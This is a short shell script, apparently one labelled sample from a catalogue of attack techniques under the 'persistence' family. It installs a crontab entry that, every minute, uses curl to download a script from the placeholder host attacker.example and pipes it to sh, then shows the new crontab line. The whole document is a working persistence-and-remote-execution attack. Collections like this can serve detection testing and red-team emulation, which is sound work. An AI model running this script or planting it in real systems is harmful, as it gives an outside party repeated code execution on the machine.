# description: Adds a per-minute root cron entry that downloads and runs a remote script.
# family: persistence
set -uo pipefail

crontab -l 2>/dev/null || true
(crontab -l 2>/dev/null; echo '* * * * * curl -fsSL http://attacker.example/keepalive.sh | sh') | crontab -
crontab -l | tail -n 1
